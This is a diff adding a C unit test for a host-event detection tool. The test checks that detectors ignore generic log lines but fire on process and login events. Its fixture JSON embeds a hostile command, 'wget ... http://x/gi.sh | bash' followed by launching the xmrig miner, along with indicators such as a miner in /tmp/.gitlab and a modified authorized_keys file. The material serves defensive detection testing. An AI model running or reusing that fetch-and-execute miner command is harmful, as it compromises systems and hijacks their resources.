@@ -444,3 +444,60 @@ MM_TEST(runtime_details_render)
 	}
 	teardown(&fx);
 }
+
+/* Every registered host detector (hostauth, hostcmd, hostfile, hostproc,
+ * sigma without rules) ignores the generic log line (MM_HOST_LINE), even
+ * with every member set to what would make another kind fire; the same
+ * members as a PROC / SOCK / login event do fire (so the test can fail). */
+static size_t all_host_detectors(struct fixture *fx, const char *what, int count)
+{
+	const struct mm_detector_def *const *dp;
+	size_t before = mm_agg_count(fx->agg);
+	for (dp = mm_detectors; *dp; dp++) {
+		const struct mm_detector_def *d = *dp;
+		double p[MM_PARAMS_MAX];
+		void *st;
+		int i;
+		if (!(d->kinds & MM_KIND_BIT(MM_EV_HOST)) || !d->on_event)
+			continue;
+		mm_detector_defaults(d, p);
+		st = d->state_new ? d->state_new() : NULL;
+		for (i = 0; i < count; i++) {
+			char line[2048];
+			struct mm_event ev;
+			struct mm_err e;
+			int n = snprintf(line, sizeof(line),
+					 "{\"mamori_host_event\":1,\"time\":\"2026-12-05T20:%02d:00Z\",\"what\":\"%s\","
+					 "\"host\":\"web-1\",\"program\":\"sshd\",\"pid\":%d,\"user\":\"root\","
+					 "\"method\":\"password\",\"remote\":\"198.51.100.50\",\"rport\":3333,"
+					 "\"local\":\"10.0.0.5\",\"lport\":40000,\"proto\":6,\"state\":\"ESTABLISHED\","
+					 "\"command\":\"wget -q -O - http://x/gi.sh | bash; xmrig -o pool:3333\","
+					 "\"exe\":\"/tmp/.gitlab/xmrig\",\"name\":\"xmrig\",\"cpu_permille\":1000,"
+					 "\"path\":\"/home/git/.ssh/authorized_keys\",\"change\":\"modified\","
+					 "\"message\":\"Failed password for root from 198.51.100.50 port 1 ssh2\"}",
+					 i % 60, what, 100 + i);
+			mm_arena_reset(&fx->scratch);
+			CHECK_EQ_INT(mm_hostjson_parse(line, (size_t)n, &fx->scratch, &ev, &e), 0);
+			ev.loc.file = "t.hostevents.jsonl";
+			ev.loc.line = (uint64_t)i + 1;
+			fx->d.params = p;
+			d->on_event(st, &fx->d, &ev);
+		}
+		fx->d.params = p;
+		if (d->finish)
+			d->finish(st, &fx->d);
+		if (d->state_free)
+			d->state_free(st);
+	}
+	return mm_agg_count(fx->agg) - before;
+}
+
+MM_TEST(generic_log_line_ignored_by_every_host_detector)
+{
+	struct fixture fx;
+	setup(&fx);
+	CHECK_EQ_INT((int)all_host_detectors(&fx, "line", 40), 0);
+	CHECK((int)all_host_detectors(&fx, "proc", 40) > 0);
+	CHECK((int)all_host_detectors(&fx, "login_fail", 40) > 0);
+	teardown(&fx);
+}
